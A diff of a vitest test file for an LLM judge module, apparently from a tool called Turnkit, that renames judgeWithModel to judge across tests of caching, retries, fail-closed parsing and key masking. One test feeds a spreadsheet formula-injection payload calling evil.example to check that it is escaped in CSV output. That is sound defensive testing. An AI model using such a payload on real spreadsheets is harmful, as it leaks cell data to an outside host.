@@ -6,7 +6,7 @@ import { join, relative } from 'node:path';
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
 import { TurnkitError } from '../../src/errors.js';
 import { createJudgeCall, JudgeCallError } from '../../src/judge/judge-client.js';
-import { judgeWithModel } from '../../src/judge/judge-model.js';
+import { judge } from '../../src/judge/judge-model.js';
 import { judgeSettingsSchema, type JudgeSettings, type JudgeSettingsInput } from '../../src/config/judge-settings.js';
 import { loadJudgeSettings } from '../../src/judge/load-judge-settings.js';
 import { sha256 } from '../../src/run-dir/manifest.js';
@@ -157,11 +157,11 @@ const MIXED_PLAN = {
   '[beta-3]': verdict('pass', 'Deck 2.'),
 };
 
-describe.each(['openai', 'anthropic'] as const)('judgeWithModel through the %s SDK and a local server', (provider) => {
+describe.each(['openai', 'anthropic'] as const)('judge through the %s SDK and a local server', (provider) => {
   it('writes marks.judge-MODEL.csv with pass, fail and na per rep and the JSONL of verdicts with reasons', async () => {
     const dir = await newRun(MIXED_RUN);
     server.respond(script(MIXED_PLAN));
-    const result = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf({ provider }) });
+    const result = await judge(HERE, { env: process.env, dir, settings: settingsOf({ provider }) });
 
     expect(result).toMatchObject({
       file: join(dir, `marks.judge-${MODEL}.csv`),
@@ -263,13 +263,13 @@ describe.each(['openai', 'anthropic'] as const)('judgeWithModel through the %s S
       ...(plan(request, index) as { content: string }),
       model: userMessageOf(request).includes('[alpha-2]') ? 'gpt-test-2026-02' : 'gpt-test-2026-01',
     }));
-    await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf({ provider }) });
+    await judge(HERE, { env: process.env, dir, settings: settingsOf({ provider }) });
     const read = async () => JSON.parse(await readFile(join(dir, 'manifest.json'), 'utf8'));
     const ids = (await read()).models.judges[`judge-${MODEL}`] as string[];
     expect([...ids].sort()).toEqual(['gpt-test-2026-01', 'gpt-test-2026-02']);
     const before = await readFile(join(dir, 'manifest.json'), 'utf8');
     // Judged again (cached verdicts report nothing new): the manifest stays as it was, byte for byte.
-    await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf({ provider }) });
+    await judge(HERE, { env: process.env, dir, settings: settingsOf({ provider }) });
     expect(await readFile(join(dir, 'manifest.json'), 'utf8')).toBe(before);
     expect((await read()).models).toEqual({ judges: { [`judge-${MODEL}`]: ids } });
   });
@@ -278,7 +278,7 @@ describe.each(['openai', 'anthropic'] as const)('judgeWithModel through the %s S
     const reason = '=HYPERLINK("http://evil.example/?"&A1,"deck 2")';
     const dir = await newRun({ fixtures: [{ name: 'alpha', reps: ['[alpha-1] Take the lift to deck 2.'] }] });
     server.respond(script({ '[alpha-1]': verdict('pass', reason) }));
-    const result = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf({ provider }) });
+    const result = await judge(HERE, { env: process.env, dir, settings: settingsOf({ provider }) });
     const text = await readFile(result.file, 'utf8');
     expect(text).toContain(`alpha,1,pass,"'=HYPERLINK(""http://evil.example/?""&A1,""deck 2"")",judge-${MODEL},`);
     expect((await readMarksRows(result.file))[0]?.note).toBe(reason);
@@ -294,7 +294,7 @@ describe.each(['openai', 'anthropic'] as const)('judgeWithModel through the %s S
         '[alpha-2]': [{ status: 500, headers: RETRY_NOW }, verdict('fail', 'after a server error')],
       }),
     );
-    const result = await judgeWithModel(HERE, {
+    const result = await judge(HERE, {
       env: process.env,
       dir,
       settings: settingsOf({ provider, retries: 2 }),
@@ -321,7 +321,7 @@ describe.each(['openai', 'anthropic'] as const)('judgeWithModel through the %s S
         '[alpha-3]': verdict('fail', 'wrong deck'),
       }),
     );
-    const result = await judgeWithModel(HERE, {
+    const result = await judge(HERE, {
       env: process.env,
       dir,
       settings: settingsOf({ provider, retries: 1 }),
@@ -347,7 +347,7 @@ describe.each(['openai', 'anthropic'] as const)('judgeWithModel through the %s S
     ];
     const dir = await newRun({ fixtures: [{ name: 'alpha', reps: answers.map((_, i) => `[alpha-${i + 1}] deck 2`) }] });
     server.respond(script(Object.fromEntries(answers.map((content, i) => [`[alpha-${i + 1}]`, { content }]))));
-    const result = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf({ provider }) });
+    const result = await judge(HERE, { env: process.env, dir, settings: settingsOf({ provider }) });
     expect(result).toMatchObject({ pass: 0, fail: 0, na: 0, error: 4 });
     const rows = await readMarksRows(result.file);
     expect(rows.map((row) => row.mark)).toEqual(['error', 'error', 'error', 'error']);
@@ -355,7 +355,7 @@ describe.each(['openai', 'anthropic'] as const)('judgeWithModel through the %s S
   });
 });
 
-describe('judgeWithModel fails closed on what the judge answers', () => {
+describe('judge fails closed on what the judge answers', () => {
   // Each answer goes to one rep; `mark` is what the rep must get and `reason` what its note must say.
   const cases: { answer: string; mark: 'pass' | 'fail' | 'error'; reason: RegExp | string }[] = [
     {
@@ -473,7 +473,7 @@ describe('judgeWithModel fails closed on what the judge answers', () => {
       fixtures: [{ name: 'alpha', reps: cases.map((_, i) => `[alpha-${i + 1}] Take the lift to deck 2.`) }],
     });
     server.respond(script(Object.fromEntries(cases.map((c, i) => [`[alpha-${i + 1}]`, { content: c.answer }]))));
-    const result = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf() });
+    const result = await judge(HERE, { env: process.env, dir, settings: settingsOf() });
     expect(server.requests).toHaveLength(cases.length);
     const rows = await readMarksRows(result.file);
     expect(rows).toHaveLength(cases.length);
@@ -493,7 +493,7 @@ describe('judgeWithModel fails closed on what the judge answers', () => {
     // judge's "fail" into a pass.
     const dir = await newRun({ fixtures: [{ name: 'alpha', reps: ['[alpha-1] deck 3'] }] });
     server.respond(() => ({ content: '{"verdict": "fail", "reason": "deck 3", "verdict": "pass"}' }));
-    const result = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf() });
+    const result = await judge(HERE, { env: process.env, dir, settings: settingsOf() });
     expect((await readMarksRows(result.file)).map((row) => row.mark)).toEqual(['error']);
     expect(result.pass).toBe(0);
   });
@@ -512,7 +512,7 @@ describe('judgeWithModel fails closed on what the judge answers', () => {
         '[alpha-3]': verdict('pass', 'fine'),
       }),
     );
-    const result = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf() });
+    const result = await judge(HERE, { env: process.env, dir, settings: settingsOf() });
     expect((await readMarksRows(result.file)).map((row) => [row.mark, row.note])).toEqual([
       ['error', 'the judge answered nothing'],
       ['error', 'the judge answered nothing'],
@@ -531,11 +531,11 @@ describe('judgeWithModel fails closed on what the judge answers', () => {
         '[alpha-3]': verdict('fail', 'deck 3'),
       }),
     );
-    const first = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf() });
+    const first = await judge(HERE, { env: process.env, dir, settings: settingsOf() });
     expect(first).toMatchObject({ pass: 1, fail: 1, error: 1, cached: 0 });
     server.reset();
     server.respond(script({ '[alpha-2]': verdict('pass', 'now readable') }));
-    const second = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf() });
+    const second = await judge(HERE, { env: process.env, dir, settings: settingsOf() });
     expect(second).toMatchObject({ pass: 2, fail: 1, error: 0, cached: 2 });
     expect(server.requests).toHaveLength(1);
     expect(userMessageOf(server.requests[0]!)).toContain('[alpha-2]');
@@ -549,7 +549,7 @@ describe('judgeWithModel fails closed on what the judge answers', () => {
   it('counts the reps the judge could not judge in judgeErrors, apart from reps that errored in the SUT', async () => {
     const dir = await newRun(MIXED_RUN);
     server.respond(script({ ...MIXED_PLAN, '[alpha-2]': { content: 'Deck 3: a fail, I would say.' } }));
-    const first = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf() });
+    const first = await judge(HERE, { env: process.env, dir, settings: settingsOf() });
     // beta 1 errored in the SUT (error, not a judge error); alpha 2 got an answer that is no verdict.
     expect(first).toMatchObject({ pass: 2, fail: 0, na: 1, error: 2, notRun: 1, judgeErrors: 1 });
     // The file is written all the same, alpha 2 error.
@@ -563,13 +563,13 @@ describe('judgeWithModel fails closed on what the judge answers', () => {
     ]);
     server.reset();
     server.respond(script(MIXED_PLAN));
-    const second = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf() });
+    const second = await judge(HERE, { env: process.env, dir, settings: settingsOf() });
     expect(second).toMatchObject({ pass: 2, fail: 1, na: 1, error: 1, notRun: 1, cached: 3, judgeErrors: 0 });
     // A request that failed (500 after retries 0) is a judge error too.
     const third = await newRun(MIXED_RUN);
     server.reset();
     server.respond(script({ ...MIXED_PLAN, '[alpha-3]': { status: 500, headers: RETRY_NOW } }));
-    expect(await judgeWithModel(HERE, { env: process.env, dir: third, settings: settingsOf() })).toMatchObject({
+    expect(await judge(HERE, { env: process.env, dir: third, settings: settingsOf() })).toMatchObject({
       pass: 2,
       fail: 1,
       na: 0,
@@ -605,7 +605,7 @@ describe('judgeWithModel fails closed on what the judge answers', () => {
         '[alpha-4]': verdict('fail', 'No deck named.'),
       }),
     );
-    const result = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf() });
+    const result = await judge(HERE, { env: process.env, dir, settings: settingsOf() });
     expect(server.requests).toHaveLength(4);
     const rows = await readMarksRows(result.file);
     expect(rows.map((row) => row.mark)).toEqual(['error', 'error', 'fail', 'fail']);
@@ -623,7 +623,7 @@ describe('judgeWithModel fails closed on what the judge answers', () => {
   });
 });
 
-describe('judgeWithModel stops with nothing written when every request would fail', () => {
+describe('judge stops with nothing written when every request would fail', () => {
   it('an endpoint that is down: TurnkitError naming it, no marks file, an earlier one unchanged byte for byte', async () => {
     const dir = await newRun(MIXED_RUN);
     const earlier = 'fixture,rep,mark,note\nalpha,1,pass,"an earlier judging, kept"\r\n';
@@ -631,7 +631,7 @@ describe('judgeWithModel stops with nothing written when every request would fai
     const before = await folderBytes(dir);
     const port = await closedPort();
     const error = await refusal(
-      judgeWithModel(HERE, {
+      judge(HERE, {
         env: process.env,
         dir,
         settings: settingsOf({ baseUrl: `http://127.0.0.1:${port}/v1`, retries: 0 }),
@@ -659,7 +659,7 @@ describe('judgeWithModel stops with nothing written when every request would fai
         }),
       }));
       const error = await refusal(
-        judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf({ provider, concurrency: 1, retries: 3 }) }),
+        judge(HERE, { env: process.env, dir, settings: settingsOf({ provider, concurrency: 1, retries: 3 }) }),
       );
       expect(error.message).toMatch(
         /^the judge at http:\/\/127\.0\.0\.1:\d+(\/v1)? answered 401: .*Incorrect API key provided: \*\*\*.*; nothing written/,
@@ -676,7 +676,7 @@ describe('judgeWithModel stops with nothing written when every request would fai
   it('an endpoint that answers garbage (not JSON): every judged rep is error, none pass, nothing cached', async () => {
     const dir = await newRun(MIXED_RUN);
     server.respond(() => ({ raw: '<html>502 Bad Gateway</html>', contentType: 'application/json' }));
-    const result = await judgeWithModel(HERE, {
+    const result = await judge(HERE, {
       env: process.env,
       dir,
       settings: settingsOf({ concurrency: 1, retries: 0 }),
@@ -694,7 +694,7 @@ describe('judgeWithModel stops with nothing written when every request would fai
     async (provider) => {
       const dir = await newRun(MIXED_RUN);
       server.respond(() => ({ raw: '{}' }));
-      const result = await judgeWithModel(HERE, {
+      const result = await judge(HERE, {
         env: process.env,
         dir,
         settings: settingsOf({ provider, concurrency: 1 }),
@@ -711,7 +711,7 @@ describe('judgeWithModel stops with nothing written when every request would fai
     const dir = await newRun(MIXED_RUN);
     const before = await folderBytes(dir);
     const error = await refusal(
-      judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf({ apiKeyEnv: 'TURNKIT_TEST_UNSET_KEY' }) }),
+      judge(HERE, { env: process.env, dir, settings: settingsOf({ apiKeyEnv: 'TURNKIT_TEST_UNSET_KEY' }) }),
     );
     expect(error.code).toBe('CONFIG');
     expect(error.message).toBe(
@@ -722,15 +722,15 @@ describe('judgeWithModel stops with nothing written when every request would fai
   });
 });
 
-describe('judgeWithModel: cache, new rubric versions, the SUT left alone', () => {
+describe('judge: cache, new rubric versions, the SUT left alone', () => {
   it('a second judging of the same run makes no request and gives the same marks', async () => {
     const dir = await newRun(MIXED_RUN);
     server.respond(script(MIXED_PLAN));
-    const first = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf() });
+    const first = await judge(HERE, { env: process.env, dir, settings: settingsOf() });
     expect(server.requests).toHaveLength(4);
     const firstRows = await readMarksRows(first.file);
     server.reset();
-    const second = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf() });
+    const second = await judge(HERE, { env: process.env, dir, settings: settingsOf() });
     expect(server.requests).toHaveLength(0);
     expect(second).toMatchObject({ pass: 2, fail: 1, na: 1, error: 1, notRun: 1, cached: 4 });
     expect(timeless(await readMarksRows(second.file))).toEqual(timeless(firstRows));
@@ -743,9 +743,9 @@ describe('judgeWithModel: cache, new rubric versions, the SUT left alone', () =>
   it("another model, or another provider, is not served from this model's cache", async () => {
     const dir = await newRun(MIXED_RUN);
     server.respond(script(MIXED_PLAN));
-    await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf() });
+    await judge(HERE, { env: process.env, dir, settings: settingsOf() });
     server.reset();
-    const other = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf({ model: 'other-model' }) });
+    const other = await judge(HERE, { env: process.env, dir, settings: settingsOf({ model: 'other-model' }) });
     expect(other.cached).toBe(0);
     expect(server.requests).toHaveLength(4);
     expect(server.requests.map((request) => request.body.model)).toEqual([
@@ -756,7 +756,7 @@ describe('judgeWithModel: cache, new rubric versions, the SUT left alone', () =>
     ]);
     expect(other.file).toBe(join(dir, 'marks.judge-other-model.csv'));
     server.reset();
-    const anthropic = await judgeWithModel(HERE, {
+    const anthropic = await judge(HERE, {
       env: process.env,
       dir,
       settings: settingsOf({ provider: 'anthropic' }),
@@ -770,12 +770,12 @@ describe('judgeWithModel: cache, new rubric versions, the SUT left alone', () =>
     server.respond(script(MIXED_PLAN));
     const other = await startFakeLlmServer(script(MIXED_PLAN));
     try {
-      const first = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf() });
+      const first = await judge(HERE, { env: process.env, dir, settings: settingsOf() });
       expect(first.cached).toBe(0);
       expect(server.requests).toHaveLength(4);
       server.reset();
       // Same provider, same model name, same rubric and responses: only the server differs.
-      const elsewhere = await judgeWithModel(HERE, {
+      const elsewhere = await judge(HERE, {
         env: process.env,
         dir,
         settings: settingsOf({ baseUrl: other.openaiBaseUrl }),
@@ -786,14 +786,14 @@ describe('judgeWithModel: cache, new rubric versions, the SUT left alone', () =>
       expect(server.requests).toHaveLength(0);
       // Each server's verdicts are served from the cache to that server's judging again.
       other.reset();
-      expect(await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf() })).toMatchObject({
+      expect(await judge(HERE, { env: process.env, dir, settings: settingsOf() })).toMatchObject({
         cached: 4,
         pass: 2,
         fail: 1,
         na: 1,
       });
       expect(
-        await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf({ baseUrl: other.openaiBaseUrl }) }),
+        await judge(HERE, { env: process.env, dir, settings: settingsOf({ baseUrl: other.openaiBaseUrl }) }),
       ).toMatchObject({
         cached: 4,
       });
@@ -801,12 +801,12 @@ describe('judgeWithModel: cache, new rubric versions, the SUT left alone', () =>
       expect(other.requests).toHaveLength(0);
       // Another temperature or token limit asks again as well.
       expect(
-        (await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf({ temperature: 0.5 }) })).cached,
+        (await judge(HERE, { env: process.env, dir, settings: settingsOf({ temperature: 0.5 }) })).cached,
       ).toBe(0);
       expect(server.requests).toHaveLength(4);
       server.reset();
       expect(
-        (await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf({ maxTokens: 512 }) })).cached,
+        (await judge(HERE, { env: process.env, dir, settings: settingsOf({ maxTokens: 512 }) })).cached,
       ).toBe(0);
       expect(server.requests).toHaveLength(4);
     } finally {
@@ -824,7 +824,7 @@ describe('judgeWithModel: cache, new rubric versions, the SUT left alone', () =>
       ...MIXED_RUN,
     });
     server.respond(script(MIXED_PLAN));
-    await judgeWithModel(
+    await judge(
       { cwd: project, paths: { baseDir: project } },
       { env: process.env, dir, settings: settingsOf() },
     );
@@ -858,7 +858,7 @@ describe('judgeWithModel: cache, new rubric versions, the SUT left alone', () =>
         '[beta-3]': verdict('pass', 'Deck 2, past the galley.'),
       }),
     );
-    const result = await judgeWithModel(
+    const result = await judge(
       { cwd: project, paths: { baseDir: project } },
       {
         env: process.env,
@@ -899,7 +899,7 @@ describe('judgeWithModel: cache, new rubric versions, the SUT left alone', () =>
       'id: routes\nquestion: q?\nrubric: { path: rubric.md, version: 3 }\ntarget: 0.9\nreps: 3\nfixtures: [f.json]\nsut: { type: command, command: [node] }\ncaseFile: c.md\n',
     );
     const error = await refusal(
-      judgeWithModel(
+      judge(
         { cwd: project, paths: { baseDir: project } },
         { env: process.env, dir, settings: settingsOf(), question: 'routes.yaml' },
       ),
@@ -915,7 +915,7 @@ describe('judgeWithModel: cache, new rubric versions, the SUT left alone', () =>
     await rm(join(dir, 'case-files', 'alpha.md'));
     await symlink(outside, join(dir, 'case-files', 'alpha.md'));
     const error = await refusal(
-      judgeWithModel({ cwd: root, paths: { baseDir: root } }, { env: process.env, dir, settings: settingsOf() }),
+      judge({ cwd: root, paths: { baseDir: root } }, { env: process.env, dir, settings: settingsOf() }),
     );
     expect(error.message).toMatch(
       /case-files\/alpha\.md: a symbolic link that leads out of the run directory; refused$/,
@@ -927,7 +927,7 @@ describe('judgeWithModel: cache, new rubric versions, the SUT left alone', () =>
   it('a run whose kept rubric is gone (and not unchanged at its path) is refused, pointing at --question', async () => {
     const dir = await newRun({ ...MIXED_RUN, noRubricCopy: true });
     const error = await refusal(
-      judgeWithModel({ cwd: root, paths: { baseDir: root } }, { env: process.env, dir, settings: settingsOf() }),
+      judge({ cwd: root, paths: { baseDir: root } }, { env: process.env, dir, settings: settingsOf() }),
     );
     expect(error.code).toBe('NOT_FOUND');
     expect(error.message).toMatch(
@@ -937,13 +937,13 @@ describe('judgeWithModel: cache, new rubric versions, the SUT left alone', () =>
   });
 });
 
-describe('judgeWithModel: warnings and concurrency', () => {
+describe('judge: warnings and concurrency', () => {
   it("warns when the judge is the SUT's own model, and not otherwise", async () => {
     const same = await newRun({
       sut: { type: 'http', baseUrl: 'http://127.0.0.1:1/v1', model: MODEL },
       fixtures: [{ name: 'alpha', reps: ['[alpha-1] deck 2'] }],
     });
-    const result = await judgeWithModel(HERE, { env: process.env, dir: same, settings: settingsOf() });
+    const result = await judge(HERE, { env: process.env, dir: same, settings: settingsOf() });
     expect(result.warnings).toEqual([
       `the judge is the SUT's own model (${MODEL}): a model tends to grade its own answers kindly`,
     ]);
@@ -951,21 +951,21 @@ describe('judgeWithModel: warnings and concurrency', () => {
       sut: { type: 'http', baseUrl: 'http://127.0.0.1:1/v1', model: 'another-model' },
       fixtures: [{ name: 'alpha', reps: ['[alpha-1] deck 2'] }],
     });
-    expect((await judgeWithModel(HERE, { env: process.env, dir: other, settings: settingsOf() })).warnings).toEqual([]);
+    expect((await judge(HERE, { env: process.env, dir: other, settings: settingsOf() })).warnings).toEqual([]);
   });
 
   it('never has more requests in flight than the concurrency, and does use it', async () => {
     const reps = Array.from({ length: 8 }, (_, i) => `[alpha-${i + 1}] deck 2`);
     const dir = await newRun({ fixtures: [{ name: 'alpha', reps }] });
     server.respond(() => ({ content: '{"verdict": "pass", "reason": "slow"}', delayMs: 50 }));
-    const two = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf({ concurrency: 2 }) });
+    const two = await judge(HERE, { env: process.env, dir, settings: settingsOf({ concurrency: 2 }) });
     expect(server.requests).toHaveLength(8);
     expect(server.maxInFlight).toBe(2);
     expect(two.pass).toBe(8);
 
     // The same run under another model (so nothing is cached) with 4 at a time.
     server.reset();
-    await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf({ model: 'wider', concurrency: 4 }) });
+    await judge(HERE, { env: process.env, dir, settings: settingsOf({ model: 'wider', concurrency: 4 }) });
     expect(server.requests).toHaveLength(8);
     expect(server.maxInFlight).toBeGreaterThan(2);
     expect(server.maxInFlight).toBeLessThanOrEqual(4);
@@ -974,7 +974,7 @@ describe('judgeWithModel: warnings and concurrency', () => {
   it('reports progress once per rep it judged', async () => {
     const dir = await newRun(MIXED_RUN);
     const seen: [number, number][] = [];
-    await judgeWithModel(HERE, {
+    await judge(HERE, {
       env: process.env,
       dir,
       settings: settingsOf(),
@@ -1200,7 +1200,7 @@ describe('loadJudgeSettings', () => {
   });
 });
 
-describe('judgeWithModel masks what an echoing endpoint repeats of its key and base URL', () => {
+describe('judge masks what an echoing endpoint repeats of its key and base URL', () => {
   it("an endpoint that echoes the request's key and the base URL's ?token= writes neither into the marks, the log or the cache", async () => {
     const token = 'tok-echoed-5d1e9a7c33';
     const dir = await newRun(MIXED_RUN);
@@ -1216,7 +1216,7 @@ describe('judgeWithModel masks what an echoing endpoint repeats of its key and b
         ),
       ),
     }));
-    const result = await judgeWithModel(HERE, {
+    const result = await judge(HERE, {
       env: process.env,
       dir,
       settings: settingsOf({ baseUrl: `${server.openaiBaseUrl}?token=${token}` }),
